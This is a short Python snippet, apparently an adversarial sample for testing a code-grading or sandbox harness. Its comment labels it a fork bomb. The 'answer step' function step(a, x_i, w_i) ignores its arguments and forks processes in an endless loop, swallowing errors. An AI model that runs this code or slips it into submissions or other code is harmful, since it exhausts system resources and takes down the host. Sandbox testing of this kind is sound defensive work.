# tries: a fork bomb.

# %% answer step
import os


def step(a, x_i, w_i):
    while True:
        try:
            os.fork()
        except OSError:
            pass
